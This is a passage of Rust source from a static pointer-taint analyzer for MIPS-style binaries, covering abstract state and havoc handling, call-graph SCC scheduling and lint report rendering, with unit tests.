                    .get(&addr)
                    .map_or(Taint::Tainted, |slot| slot.taint);
                let i = Region::Stack.index();
                out.events[i] = Some(out.events[i].unwrap_or(Taint::Clean).join(t));
            } else {
                out.written.insert(addr);
            }
        }
        out
    }
}

/// What a havoc leaves of a tracked slot's value.
///
/// An opaque return address survives a havoc; everything else degrades to
/// [`Value::Unknown`]. Two arguments cover the two havoc flavours:
///
/// * **Tainted havoc** (e.g. `read()` with imprecise bounds smearing the
///   stack): every byte it may have written is tainted, so an execution
///   that later passes the pointer-taintedness check on the slot's
///   contents — the only way its value reaches a `jr` — must have read
///   the *original* return address. This is the same check refinement the
///   Load/Store transfer applies, and it is unconditional.
/// * **Clean havoc** (a store of constant data through a widened pointer,
///   e.g. a scanner nul-terminating through an advancing buffer cursor):
///   here we lean on the paper's threat model — memory-corruption payloads
///   are *input-derived*, hence tainted. A program overwriting a saved
///   return address with untainted constants is corruption the dynamic
///   taintedness check cannot observe either, so preserving the opaque
///   value loses nothing relative to the detector the analysis mirrors.
///
/// The slot's *taint* still absorbs the havoc, so a `jr` through a
/// possibly-overwritten slot is still flagged/unresolved; only control
/// flow stays structural instead of widening to Anywhere. Preserving the
/// value is safe precisely because [`Value::RetAddr`] exposes no
/// constants: it cannot steer branch pruning or address arithmetic, so a
/// stale value can never exclude a concrete path.
///
/// [`Value::FrameBase`] — the saved frame pointer — survives for exactly
/// the same two reasons: its consumers are pointer-checked (frame-relative
/// loads and stores), and it too exposes no constants.
fn havocked_value(v: &Value) -> Value {
    match v {
        Value::RetAddr(k) => Value::RetAddr(*k),
        Value::FrameBase(k) => Value::FrameBase(*k),
        _ => Value::Unknown,
    }
}

/// Value part of [`State::translate`]: shifts stack-region constants by
/// `delta` (degrading to [`Value::Unknown`] when the shift is unknown or
/// the result escapes the stack band) and maps return-address depths.
fn translate_value(v: &Value, ctx: &Ctx, delta: Option<i64>, ret: RetXfer) -> Value {
    match v {
        Value::Consts(cs) => {
            let mut out = Vec::with_capacity(cs.len());
            for &c in cs {
                if ctx.layout.classify(c) != Region::Stack {
                    out.push(c);
                    continue;
                }
                let Some(d) = delta else {
                    return Value::Unknown;
                };
                let Ok(s) = u32::try_from(i64::from(c) + d) else {
                    return Value::Unknown;
                };
                if ctx.layout.classify(s) != Region::Stack {
                    return Value::Unknown;
                }
                out.push(s);
            }
            Value::normalize(out, &ctx.layout)
        }
        Value::RetAddr(k) => match ret {
            RetXfer::Deepen => {
                if *k >= crate::domain::MAX_RET_DEPTH {
                    Value::Unknown
                } else {
                    Value::RetAddr(k + 1)
                }
            }
            RetXfer::Pop(pc) => {
                if *k == 0 {
                    Value::constant(pc)
                } else {
                    Value::RetAddr(k - 1)
                }
            }
            RetXfer::Keep => Value::RetAddr(*k),
        },
        // Saved-fp depths deepen with the return-address depths, but the
        // `Pop` substitution needs the *caller's* fp value, which only
        // [`State::apply_return`] knows — it maps the depths back down.
        Value::FrameBase(k) => match ret {
            RetXfer::Deepen => {
                if *k >= crate::domain::MAX_RET_DEPTH {
                    Value::Unknown
                } else {
                    Value::FrameBase(k + 1)
                }
            }
            RetXfer::Pop(_) | RetXfer::Keep => Value::FrameBase(*k),
        },
        other => other.clone(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ptaint_isa::{Instr, DATA_BASE, STACK_TOP};

    fn ctx() -> Ctx {
        let mut image = Image::new();
        image.text = vec![Instr::Syscall.encode()];
        image.data = vec![0x78, 0x56, 0x34, 0x12];
        Ctx::new(&image)
    }

    #[test]
    fn defaults_read_loader_contents() {
        let c = ctx();
        let st = State::entry(&c);
        assert_eq!(
            st.read_slot(&c, DATA_BASE),
            AbsVal::clean_const(0x1234_5678)
        );
        assert_eq!(st.read_slot(&c, STACK_TOP - 64), AbsVal::clean_const(0));
        assert_eq!(st.read_slot(&c, STACK_TOP).taint, Taint::Tainted);
    }

    #[test]
    fn havoc_taints_tracked_slots_and_defaults() {
        let c = ctx();
        let mut st = State::entry(&c);
        st.write_slot(&c, STACK_TOP - 100, AbsVal::clean_const(7));
        st.havoc_region(&c, Region::Stack, Taint::Tainted);
        assert_eq!(st.read_slot(&c, STACK_TOP - 100).taint, Taint::Tainted);
        assert_eq!(st.read_slot(&c, STACK_TOP - 100).value, Value::Unknown);
        // Untracked slots of the region degrade too.
        assert_eq!(st.read_slot(&c, STACK_TOP - 200).taint, Taint::Tainted);
        // Other regions are untouched.
        assert_eq!(
            st.read_slot(&c, DATA_BASE),
            AbsVal::clean_const(0x1234_5678)
        );
        assert_eq!(st.region_taint(Region::Stack), Taint::Tainted);
    }

    #[test]
    fn clean_havoc_destroys_values_not_taint() {
        let c = ctx();
        let mut st = State::entry(&c);
        st.write_slot(&c, STACK_TOP - 100, AbsVal::clean_const(7));
        st.havoc_region(&c, Region::Stack, Taint::Clean);
        let slot = st.read_slot(&c, STACK_TOP - 100);
        assert_eq!(slot.taint, Taint::Clean);
        assert_eq!(slot.value, Value::Unknown);
    }

    #[test]
    fn join_accounts_for_one_sided_havoc() {
        let c = ctx();
        let mut a = State::entry(&c);
        let mut b = State::entry(&c);
        // Path A tracks a clean slot; path B havocs the region tainted.
        a.write_slot(&c, STACK_TOP - 100, AbsVal::clean_const(7));
        b.havoc_region(&c, Region::Stack, Taint::Tainted);
        assert!(a.join_into(&b, &c));
        assert_eq!(a.read_slot(&c, STACK_TOP - 100).taint, Taint::Tainted);
        // Idempotent once converged.
        let snapshot = a.clone();
        assert!(!a.join_into(&b, &c));
        assert_eq!(a, snapshot);
    }

    #[test]
    fn argument_regions_alias_for_havoc() {
        let c = ctx();
        let mut st = State::entry(&c);
        st.havoc_region(&c, Region::ArgStrings, Taint::Tainted);
        assert_eq!(st.region_taint(Region::ArgPtrs), Taint::Tainted);
    }
}
