//! The abstract machine state: registers, tracked memory slots, and
//! per-region summaries.
//!
//! Memory is modelled lazily: a word-aligned slot enters the tracked map
//! only once the program writes it through a known-constant address.
//! Everything else reads its *loader-initial* contents (image bytes for
//! text/data, zeros elsewhere, tainted-unknown for argv/envp strings) —
//! unless the containing region has been **havocked** by a store through a
//! widened pointer, after which the region's defaults lose their values and
//! absorb the stored taint.

use std::collections::BTreeMap;

use ptaint_asm::Image;
use ptaint_isa::{Reg, STACK_TOP, TEXT_BASE, WORD_BYTES};

use crate::domain::{AbsVal, MemLayout, Region, Taint, Value};

/// Upper bound on tracked memory slots per abstract state; beyond it new
/// constant-address stores degrade to region havocs so states stay small
/// and joins stay cheap.
const MAX_TRACKED_SLOTS: usize = 8192;

/// Immutable per-image context shared by every transfer function: the text
/// (plus exit stub) words, initial data bytes, and derived layout.
#[derive(Debug)]
pub struct Ctx {
    /// Text words including the synthesized exit stub.
    pub words: Vec<u32>,
    /// Base address of `words` (the image's text base).
    pub text_base: u32,
    /// Address of the loader's exit stub (== the image's `text_end`).
    pub stub: u32,
    /// Initial data bytes at `data_base`.
    pub data: Vec<u8>,
    /// Base address of the data segment.
    pub data_base: u32,
    /// Entry point.
    pub entry: u32,
    /// Region geometry derived from the image.
    pub layout: MemLayout,
}

impl Ctx {
    /// Builds the context for an image, synthesizing the same exit stub the
    /// loader appends after text (`move $a0,$v0; li $v0,1; syscall; break`).
    #[must_use]
    pub fn new(image: &Image) -> Ctx {
        let mut words = image.text.clone();
        words.extend(stub_words());
        let stub = image.text_end();
        let text_limit = stub + (stub_words().len() as u32) * WORD_BYTES;
        let brk0 = image.data_end().div_ceil(ptaint_isa::PAGE_SIZE) * ptaint_isa::PAGE_SIZE;
        Ctx {
            words,
            text_base: image.text_base,
            stub,
            data: image.data.clone(),
            data_base: image.data_base,
            entry: image.entry,
            layout: MemLayout { text_limit, brk0 },
        }
    }

    /// The word at a text (or stub) address, if in range and aligned.
    #[must_use]
    pub fn word_at(&self, addr: u32) -> Option<u32> {
        if addr < self.text_base || !addr.is_multiple_of(WORD_BYTES) {
            return None;
        }
        self.words
            .get(((addr - self.text_base) / WORD_BYTES) as usize)
            .copied()
    }

    /// Whether `addr` is a valid (aligned, in-range) instruction address.
    #[must_use]
    pub fn in_text(&self, addr: u32) -> bool {
        self.word_at(addr).is_some()
    }

    /// The little-endian data word at a (word-aligned) address, reading
    /// past the initialized bytes as zero.
    #[must_use]
    fn data_word(&self, addr: u32) -> u32 {
        let mut w = 0u32;
        for i in 0..4 {
            let off = (addr + i).wrapping_sub(self.data_base) as usize;
            let byte = self.data.get(off).copied().unwrap_or(0);
            w |= u32::from(byte) << (8 * i);
        }
        w
    }

    /// The loader-initial contents of the word-aligned slot at `addr`
    /// (before any havoc): what the program would read if it never wrote
    /// there.
    #[must_use]
    pub fn initial_slot(&self, addr: u32) -> AbsVal {
        match self.layout.classify(addr) {
            Region::Text => AbsVal::clean_const(self.word_at(addr).unwrap_or(0)),
            Region::Data => AbsVal::clean_const(self.data_word(addr)),
            Region::Heap | Region::Stack | Region::Other => AbsVal::clean_const(0),
            Region::ArgStrings | Region::ArgPtrs => AbsVal::opaque(Taint::Tainted),
        }
    }
}

/// The exit stub the loader appends after text, in encoded form. The
/// loader's [`ptaint_os::exit_stub`] is the single source of truth, so the
/// analyzed program and the running program can never disagree about these
/// words.
#[must_use]
pub fn stub_words() -> [u32; 4] {
    ptaint_os::exit_stub().map(|i| i.encode())
}

/// Abstract machine state at one program point.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct State {
    regs: [AbsVal; 32],
    hi: AbsVal,
    lo: AbsVal,
    /// Tracked word-aligned memory slots (written via constant addresses).
    mem: BTreeMap<u32, AbsVal>,
    /// Per-region havoc level: `Some(t)` once a store through a widened
    /// pointer may have hit the region, carrying taint at most `t`.
    havoc: [Option<Taint>; Region::COUNT],
    /// Monotone join over the taints ever written to tracked slots of each
    /// region — the region-granular bound used by widened loads.
    agg: [Taint; Region::COUNT],
}

impl State {
    /// The state the loader establishes at the entry point.
    #[must_use]
    pub fn entry(ctx: &Ctx) -> State {
        let zero = AbsVal::clean_const(0);
        let mut st = State {
            regs: std::array::from_fn(|_| zero.clone()),
            hi: zero.clone(),
            lo: zero,
            mem: BTreeMap::new(),
            havoc: [None; Region::COUNT],
            agg: [Taint::Clean; Region::COUNT],
        };
        // argc is world-dependent; argv/envp point at the kernel-built
        // pointer arrays above the stack.
        st.set(Reg::A0, AbsVal::opaque(Taint::Clean));
        let arg_array = AbsVal {
            taint: Taint::Clean,
            value: Value::InRegion(Region::ArgPtrs),
        };
        st.set(Reg::A1, arg_array.clone());
        st.set(Reg::A2, arg_array);
        st.set(Reg::SP, AbsVal::clean_const(STACK_TOP - 64));
        st.set(Reg::FP, AbsVal::clean_const(STACK_TOP - 64));
        st.set(Reg::GP, AbsVal::clean_const(ctx.data_base + 0x8000));
        st.set(Reg::RA, AbsVal::clean_const(ctx.stub));
        debug_assert_eq!(ctx.text_base, TEXT_BASE);
        st
    }

    /// Reads a register (`$zero` is always clean zero).
    #[must_use]
    pub fn get(&self, r: Reg) -> AbsVal {
        self.regs[r.number() as usize].clone()
    }

    /// Writes a register (writes to `$zero` are discarded).
    pub fn set(&mut self, r: Reg, v: AbsVal) {
        if r != Reg::ZERO {
            self.regs[r.number() as usize] = v;
        }
    }

    /// Forces a register's taint to `Clean`, keeping its value — the
    /// Table-1 compare/branch operand untaint.
    pub fn untaint(&mut self, r: Reg) {
        if r != Reg::ZERO {
            self.regs[r.number() as usize].taint = Taint::Clean;
        }
    }

    /// `HI` accessor.
    #[must_use]
    pub fn hi(&self) -> AbsVal {
        self.hi.clone()
    }

    /// `LO` accessor.
    #[must_use]
    pub fn lo(&self) -> AbsVal {
        self.lo.clone()
    }

    /// Writes `HI` and `LO`.
    pub fn set_hilo(&mut self, hi: AbsVal, lo: AbsVal) {
        self.hi = hi;
        self.lo = lo;
    }

    /// What a read of the word-aligned slot at `addr` observes if the slot
    /// is untracked: loader-initial contents, degraded by any havoc of the
    /// containing region.
    #[must_use]
    fn default_slot(&self, ctx: &Ctx, addr: u32) -> AbsVal {
        let r = ctx.layout.classify(addr);
        let init = ctx.initial_slot(addr);
        match self.havoc[r.index()] {
            Some(t) => AbsVal::opaque(init.taint.join(t)),
            None => init,
        }
    }

    /// The abstract contents of the word-aligned slot containing `addr`.
    #[must_use]
    pub fn read_slot(&self, ctx: &Ctx, addr: u32) -> AbsVal {
        let wa = addr & !3;
        self.mem
            .get(&wa)
            .cloned()
            .unwrap_or_else(|| self.default_slot(ctx, wa))
    }

    /// Region-granular taint bound for loads through a widened pointer
    /// into `r`: initial region taint, joined with havoc and with every
    /// taint ever written to a tracked slot of the region.
    #[must_use]
    pub fn region_taint(&self, r: Region) -> Taint {
        r.initial_taint()
            .join(self.havoc[r.index()].unwrap_or(Taint::Clean))
            .join(self.agg[r.index()])
    }

    /// Strongly updates the word-aligned slot at `addr` (a single known
    /// address, full-word store). Falls back to a region havoc when the
    /// tracked map is full.
    pub fn write_slot(&mut self, ctx: &Ctx, addr: u32, v: AbsVal) {
        let wa = addr & !3;
        if self.mem.len() >= MAX_TRACKED_SLOTS && !self.mem.contains_key(&wa) {
            self.havoc_region(ctx, ctx.layout.classify(wa), v.taint);
            return;
        }
        let r = ctx.layout.classify(wa);
        self.agg[r.index()] = self.agg[r.index()].join(v.taint);
        self.mem.insert(wa, v);
    }

    /// Weakly updates the slot at `addr`: joins `v` into the current
    /// contents (used for multi-address and sub-word stores).
    pub fn weak_write_slot(&mut self, ctx: &Ctx, addr: u32, v: &AbsVal) {
        let old = self.read_slot(ctx, addr);
        self.write_slot(ctx, addr, old.join(v, &ctx.layout));
    }

    /// A store through a pointer only known to lie in `r` may have hit any
    /// slot of the region: every tracked slot absorbs the stored taint and
    /// loses its value, and the region's defaults degrade likewise. The
    /// two virtual argument regions alias the same physical band, so
    /// havocking one havocs both.
    pub fn havoc_region(&mut self, ctx: &Ctx, r: Region, taint: Taint) {
        self.havoc_one(ctx, r, taint);
        match r {
            Region::ArgStrings => self.havoc_one(ctx, Region::ArgPtrs, taint),
            Region::ArgPtrs => self.havoc_one(ctx, Region::ArgStrings, taint),
            _ => {}
        }
    }

    fn havoc_one(&mut self, ctx: &Ctx, r: Region, taint: Taint) {
        let i = r.index();
        self.havoc[i] = Some(self.havoc[i].unwrap_or(Taint::Clean).join(taint));
        self.agg[i] = self.agg[i].join(taint);
        for (&addr, slot) in self.mem.iter_mut() {
            if ctx.layout.classify(addr) == r {
                slot.taint = slot.taint.join(taint);
                slot.value = Value::Unknown;
            }
        }
    }

    /// A store through a completely unknown pointer: havoc every region.
    pub fn havoc_all(&mut self, taint: Taint) {
        for h in &mut self.havoc {
            *h = Some(h.unwrap_or(Taint::Clean).join(taint));
        }
        for a in &mut self.agg {
            *a = a.join(taint);
        }
        for slot in self.mem.values_mut() {
            slot.taint = slot.taint.join(taint);
            slot.value = Value::Unknown;
        }
    }

    /// Joins `other` into `self`; returns whether `self` changed (the
    /// fixpoint driver's convergence signal).
    pub fn join_into(&mut self, other: &State, ctx: &Ctx) -> bool {
        let lay = &ctx.layout;
        let mut changed = false;
        for i in 0..32 {
            let j = self.regs[i].join(&other.regs[i], lay);
            if j != self.regs[i] {
                self.regs[i] = j;
                changed = true;
            }
        }
        let hi = self.hi.join(&other.hi, lay);
        if hi != self.hi {
            self.hi = hi;
            changed = true;
        }
        let lo = self.lo.join(&other.lo, lay);
        if lo != self.lo {
            self.lo = lo;
            changed = true;
        }
        // Memory: keys missing on one side read that side's default.
        let keys: Vec<u32> = self.mem.keys().chain(other.mem.keys()).copied().collect();
        for addr in keys {
            let a = self.read_slot(ctx, addr);
            let b = other.read_slot(ctx, addr);
            let j = a.join(&b, lay);
            if self.mem.get(&addr) != Some(&j) {
                self.mem.insert(addr, j);
                changed = true;
            }
        }
        for i in 0..Region::COUNT {
            let h = match (self.havoc[i], other.havoc[i]) {
                (None, None) => None,
                (a, b) => Some(a.unwrap_or(Taint::Clean).join(b.unwrap_or(Taint::Clean))),
            };
            if h != self.havoc[i] {
                self.havoc[i] = h;
                changed = true;
            }
            let g = self.agg[i].join(other.agg[i]);
            if g != self.agg[i] {
                self.agg[i] = g;
                changed = true;
            }
        }
        changed
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ptaint_isa::{Instr, DATA_BASE};

    fn ctx() -> Ctx {
        let mut image = Image::new();
        image.text = vec![Instr::Syscall.encode()];
        image.data = vec![0x78, 0x56, 0x34, 0x12];
        Ctx::new(&image)
    }

    #[test]
    fn defaults_read_loader_contents() {
        let c = ctx();
        let st = State::entry(&c);
        assert_eq!(
            st.read_slot(&c, DATA_BASE),
            AbsVal::clean_const(0x1234_5678)
        );
        assert_eq!(st.read_slot(&c, STACK_TOP - 64), AbsVal::clean_const(0));
        assert_eq!(st.read_slot(&c, STACK_TOP).taint, Taint::Tainted);
    }

    #[test]
    fn havoc_taints_tracked_slots_and_defaults() {
        let c = ctx();
        let mut st = State::entry(&c);
        st.write_slot(&c, STACK_TOP - 100, AbsVal::clean_const(7));
        st.havoc_region(&c, Region::Stack, Taint::Tainted);
        assert_eq!(st.read_slot(&c, STACK_TOP - 100).taint, Taint::Tainted);
        assert_eq!(st.read_slot(&c, STACK_TOP - 100).value, Value::Unknown);
        // Untracked slots of the region degrade too.
        assert_eq!(st.read_slot(&c, STACK_TOP - 200).taint, Taint::Tainted);
        // Other regions are untouched.
        assert_eq!(
            st.read_slot(&c, DATA_BASE),
            AbsVal::clean_const(0x1234_5678)
        );
        assert_eq!(st.region_taint(Region::Stack), Taint::Tainted);
    }

    #[test]
    fn clean_havoc_destroys_values_not_taint() {
        let c = ctx();
        let mut st = State::entry(&c);
        st.write_slot(&c, STACK_TOP - 100, AbsVal::clean_const(7));
        st.havoc_region(&c, Region::Stack, Taint::Clean);
        let slot = st.read_slot(&c, STACK_TOP - 100);
        assert_eq!(slot.taint, Taint::Clean);
        assert_eq!(slot.value, Value::Unknown);
    }

    #[test]
    fn join_accounts_for_one_sided_havoc() {
        let c = ctx();
        let mut a = State::entry(&c);
        let mut b = State::entry(&c);
        // Path A tracks a clean slot; path B havocs the region tainted.
        a.write_slot(&c, STACK_TOP - 100, AbsVal::clean_const(7));
        b.havoc_region(&c, Region::Stack, Taint::Tainted);
        assert!(a.join_into(&b, &c));
        assert_eq!(a.read_slot(&c, STACK_TOP - 100).taint, Taint::Tainted);
        // Idempotent once converged.
        let snapshot = a.clone();
        assert!(!a.join_into(&b, &c));
        assert_eq!(a, snapshot);
    }

    #[test]
    fn argument_regions_alias_for_havoc() {
        let c = ctx();
        let mut st = State::entry(&c);
        st.havoc_region(&c, Region::ArgStrings, Taint::Tainted);
        assert_eq!(st.region_taint(Region::ArgPtrs), Taint::Tainted);
    }
}
