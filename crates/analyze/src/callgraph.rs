//! Static call graph recovery and SCC-based scheduling order.
//!
//! The parallel driver wants to analyze callees before callers so that exit
//! summaries are available the first time a call site is reached — that
//! minimizes re-runs, it does not affect the result (the fixpoint converges
//! to the same answer under any schedule, which is what makes the parallel
//! merge deterministic). The order comes from the *static* call graph:
//! direct `jal` edges between the pre-scanned function entries, condensed
//! into strongly connected components. Entries discovered only dynamically
//! (resolved `jalr` targets, mid-function tail targets) are absent from the
//! static graph; the driver schedules them after every ranked entry, by
//! address.

use std::collections::{BTreeMap, BTreeSet};

use ptaint_isa::{DecodedInsn, Instr};

use crate::interp::Prescan;
use crate::state::Ctx;

/// Bottom-up schedule ranks over the static `jal` call graph: SCCs are
/// numbered callee-first (reverse topological order of the condensation),
/// so sorting entries by ascending rank analyzes leaves before their
/// callers. Members of one SCC share a rank.
#[must_use]
pub fn ranks(ctx: &Ctx, pre: &Prescan) -> BTreeMap<u32, usize> {
    let entries: Vec<u32> = pre.fn_entries.iter().copied().collect();
    let owner = |pc: u32| -> Option<u32> {
        match entries.binary_search(&pc) {
            Ok(_) => Some(pc),
            Err(0) => None,
            Err(i) => Some(entries[i - 1]),
        }
    };
    let mut edges: BTreeMap<u32, BTreeSet<u32>> = BTreeMap::new();
    for &e in &entries {
        edges.insert(e, BTreeSet::new());
    }
    for (i, &word) in ctx.words.iter().enumerate() {
        let pc = ctx.text_base + 4 * u32::try_from(i).unwrap_or(u32::MAX);
        let Ok(d) = DecodedInsn::predecode(pc, word) else {
            continue;
        };
        if let Instr::Jump { link: true, .. } = d.instr {
            if ctx.in_text(d.target) {
                if let (Some(from), Some(to)) = (owner(pc), owner(d.target)) {
                    edges.entry(from).or_default().insert(to);
                }
            }
        }
    }
    tarjan_ranks(&entries, &edges)
}

/// Iterative Tarjan SCC, emitting component numbers in completion order.
/// Tarjan completes an SCC only after every component reachable from it, so
/// the emission index *is* the reverse-topological (bottom-up) rank.
/// Deterministic: roots and successors are iterated in sorted order.
fn tarjan_ranks(nodes: &[u32], edges: &BTreeMap<u32, BTreeSet<u32>>) -> BTreeMap<u32, usize> {
    let mut index: BTreeMap<u32, u32> = BTreeMap::new();
    let mut low: BTreeMap<u32, u32> = BTreeMap::new();
    let mut on_stack: BTreeSet<u32> = BTreeSet::new();
    let mut stack: Vec<u32> = Vec::new();
    let mut next = 0u32;
    let mut rank: BTreeMap<u32, usize> = BTreeMap::new();
    let mut scc = 0usize;

    enum Step {
        Visit(u32, u32),
        Pop(u32),
    }

    let succs = |v: u32| -> Vec<u32> {
        edges
            .get(&v)
            .map(|s| s.iter().copied().collect())
            .unwrap_or_default()
    };

    for &root in nodes {
        if index.contains_key(&root) {
            continue;
        }
        index.insert(root, next);
        low.insert(root, next);
        next += 1;
        stack.push(root);
        on_stack.insert(root);
        // Frame: (node, successor list, next successor index).
        let mut frames: Vec<(u32, Vec<u32>, usize)> = vec![(root, succs(root), 0)];
        loop {
            let step = {
                let Some(frame) = frames.last_mut() else {
                    break;
                };
                if frame.2 < frame.1.len() {
                    let w = frame.1[frame.2];
                    frame.2 += 1;
                    Step::Visit(frame.0, w)
                } else {
                    Step::Pop(frame.0)
                }
            };
            match step {
                Step::Visit(v, w) => {
                    if let std::collections::btree_map::Entry::Vacant(e) = index.entry(w) {
                        e.insert(next);
                        low.insert(w, next);
                        next += 1;
                        stack.push(w);
                        on_stack.insert(w);
                        frames.push((w, succs(w), 0));
                    } else if on_stack.contains(&w) {
                        let lw = index[&w];
                        if lw < low[&v] {
                            low.insert(v, lw);
                        }
                    }
                }
                Step::Pop(v) => {
                    frames.pop();
                    if let Some(parent) = frames.last() {
                        let lv = low[&v];
                        if lv < low[&parent.0] {
                            low.insert(parent.0, lv);
                        }
                    }
                    if low[&v] == index[&v] {
                        loop {
                            let w = stack.pop().expect("SCC stack underflow");
                            on_stack.remove(&w);
                            rank.insert(w, scc);
                            if w == v {
                                break;
                            }
                        }
                        scc += 1;
                    }
                }
            }
        }
    }
    rank
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ranks_of(graph: &[(u32, &[u32])]) -> BTreeMap<u32, usize> {
        let nodes: Vec<u32> = graph.iter().map(|&(n, _)| n).collect();
        let mut edges: BTreeMap<u32, BTreeSet<u32>> = BTreeMap::new();
        for &(n, succ) in graph {
            edges.insert(n, succ.iter().copied().collect());
        }
        tarjan_ranks(&nodes, &edges)
    }

    #[test]
    fn callees_rank_before_callers() {
        // 0 -> 4 -> 8 (a chain): leaf 8 first.
        let r = ranks_of(&[(0, &[4]), (4, &[8]), (8, &[])]);
        assert!(r[&8] < r[&4]);
        assert!(r[&4] < r[&0]);
    }

    #[test]
    fn mutual_recursion_shares_a_rank() {
        let r = ranks_of(&[(0, &[4]), (4, &[8]), (8, &[4])]);
        assert_eq!(r[&4], r[&8]);
        assert!(r[&4] < r[&0]);
    }

    #[test]
    fn self_recursion_is_a_singleton_scc() {
        let r = ranks_of(&[(0, &[0, 4]), (4, &[])]);
        assert!(r[&4] < r[&0]);
    }
}
