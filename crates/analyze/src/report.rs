//! Deterministic, human-readable rendering of an [`Analysis`] — the lint
//! report format pinned by `tests/golden/analyze/*.txt`.

use std::fmt::Write as _;

use ptaint_asm::Image;

use crate::Analysis;

/// Renders the lint report for `image`: the CFG/site summary followed by
/// one line per flagged site, disassembled, with its containing function
/// and the definite call chain from the entry point.
///
/// The output is fully deterministic (sites sorted by address, symbols
/// resolved shortest-name-first) so it can be diffed against golden files
/// in CI.
#[must_use]
pub fn render_report(image: &Image, analysis: &Analysis) -> String {
    let mut out = String::new();
    let s = &analysis.stats;
    let entry_name = image
        .symbol_at(image.entry)
        .map_or_else(|| format!("{:#010x}", image.entry), str::to_owned);
    let _ = writeln!(out, "ptaint-analyze report");
    let _ = writeln!(
        out,
        "image: {} text words, entry {} ({:#010x})",
        image.text.len(),
        entry_name,
        image.entry,
    );
    let _ = writeln!(
        out,
        "cfg: {} functions, {} basic blocks, {} instructions reachable",
        s.functions, s.blocks, s.instructions,
    );
    let _ = writeln!(
        out,
        "checked sites: {} ({} loads/stores, {} register jumps)",
        s.load_store_sites + s.register_jump_sites,
        s.load_store_sites,
        s.register_jump_sites,
    );
    if s.vacuous_sites > 0 {
        let _ = writeln!(
            out,
            "  proven clean: {} ({} in unreachable functions)",
            s.proven_sites, s.vacuous_sites,
        );
    } else {
        let _ = writeln!(out, "  proven clean: {}", s.proven_sites);
    }
    let _ = writeln!(out, "  unresolved:   {}", s.unresolved_sites);
    let _ = writeln!(out, "  flagged:      {}", s.flagged_sites);
    if !analysis.smc_pages.is_empty() {
        let pages: Vec<String> = analysis
            .smc_pages
            .iter()
            .map(|p| format!("{:#x}", p * ptaint_isa::PAGE_SIZE))
            .collect();
        let _ = writeln!(out, "self-modifying text pages: {}", pages.join(", "));
    }
    if let Some(reason) = &analysis.degraded {
        let _ = writeln!(out, "analysis degraded: {reason} (nothing proven clean)");
    }
    let _ = writeln!(out);
    if analysis.findings.is_empty() {
        let _ = writeln!(out, "flagged sites: none");
        return out;
    }
    let _ = writeln!(out, "flagged sites (address register may be tainted):");
    for f in &analysis.findings {
        let location = format!("{}+{:#x}", f.function, f.offset);
        let chain = if f.chain.len() > 1 {
            format!(", via {}", collapse_chain(&f.chain))
        } else {
            String::new()
        };
        let _ = writeln!(
            out,
            "  {:08x}  {:<24} ; in {location}{chain}",
            f.pc,
            f.instr.to_string(),
        );
    }
    out
}

/// Joins a reachability chain with `" > "`, collapsing adjacent repeated
/// frames (recursive functions) into `name (×N)` so recursive guests don't
/// render `f > f > f > …`.
fn collapse_chain(chain: &[String]) -> String {
    let mut parts: Vec<String> = Vec::new();
    let mut i = 0;
    while i < chain.len() {
        let mut n = 1;
        while i + n < chain.len() && chain[i + n] == chain[i] {
            n += 1;
        }
        if n > 1 {
            parts.push(format!("{} (\u{d7}{n})", chain[i]));
        } else {
            parts.push(chain[i].clone());
        }
        i += n;
    }
    parts.join(" > ")
}

#[cfg(test)]
mod tests {
    use super::*;
    use ptaint_asm::assemble;

    #[test]
    fn adjacent_repeats_collapse_with_a_multiplier() {
        let chain: Vec<String> = ["_start", "main", "f", "f", "f", "g"]
            .iter()
            .map(|s| (*s).to_owned())
            .collect();
        assert_eq!(collapse_chain(&chain), "_start > main > f (\u{d7}3) > g");
        let plain: Vec<String> = ["_start", "main"].iter().map(|s| (*s).to_owned()).collect();
        assert_eq!(collapse_chain(&plain), "_start > main");
    }

    #[test]
    fn report_is_deterministic_and_mentions_flags() {
        let src = "       .data
buf:    .word 0
        .text
main:   addiu $4, $0, 0
        lui $5, %hi(buf)
        ori $5, $5, %lo(buf)
        addiu $6, $0, 4
        addiu $2, $0, 3
        syscall
        lw $9, 0($5)
        lw $10, 0($9)
        jr $31";
        let image = assemble(src).unwrap();
        let a = crate::analyze(&image);
        let r1 = render_report(&image, &a);
        let r2 = render_report(&image, &crate::analyze(&image));
        assert_eq!(r1, r2);
        assert!(r1.contains("flagged sites (address register may be tainted):"));
        assert!(r1.contains("lw $10,0($9)"));
        assert!(r1.contains("in main+"));
    }

    #[test]
    fn clean_program_reports_no_findings() {
        let image = assemble("main: jr $31").unwrap();
        let a = crate::analyze(&image);
        let report = render_report(&image, &a);
        assert!(report.contains("flagged sites: none"));
        assert!(report.contains("proven clean: 1"));
    }
}
