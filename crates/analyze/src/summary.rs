//! Per-function summary computation.
//!
//! Each function is analyzed in isolation against its **canonical frame**
//! (entry `$sp` = [`CANON_SP`]): a local worklist fixpoint over the
//! function's blocks, fed by a *context* (the join of every caller state
//! translated into callee coordinates) and consuming callee *exit
//! summaries* at call sites instead of havocking. The result — the
//! [`FnRun`] — carries everything the driver needs to merge: the converged
//! in-states, the exit summary, context contributions to callees, and the
//! interprocedural edges discovered.
//!
//! Re-runs recompute from scratch against the latest (monotonically grown)
//! inputs; the driver joins the outputs into its accumulated maps, so the
//! global fixpoint converges regardless of schedule.

use std::collections::{BTreeMap, BTreeSet};

use ptaint_isa::Reg;

use crate::domain::{AbsVal, Taint, Value};
use crate::interp::{walk_block, BlockEdge, Effects, FnView};
use crate::state::{Ctx, RetXfer, StackFold, State, CANON_SP};

/// Everything one per-function fixpoint run produces.
pub struct FnRun {
    /// The function range the run was computed against.
    pub view: FnView,
    /// Final local block leaders (pre-scan leaders in range plus dynamic
    /// splits) — the extraction replay re-walks exactly these blocks.
    pub leaders: BTreeSet<u32>,
    /// Converged in-state per reachable local leader.
    pub in_states: BTreeMap<u32, State>,
    /// Join of every structural-return state (and of tail targets' exits,
    /// translated back), in this function's canonical coordinates. `None`
    /// when the function provably never returns.
    pub exit: Option<State>,
    /// Per-callee context contribution: caller state at each call/tail
    /// site, translated into the target's canonical coordinates.
    pub ctx_out: BTreeMap<u32, State>,
    /// Call edges `(site, callee entry)` from `jal` and resolved `jalr` —
    /// the reachability-chain input.
    pub calls: BTreeSet<(u32, u32)>,
    /// Functions whose exit summaries this run consumed (or would consume):
    /// when one of them grows, this function must re-run.
    pub deps: BTreeSet<u32>,
    /// Call/tail targets that were not yet function entries — the driver
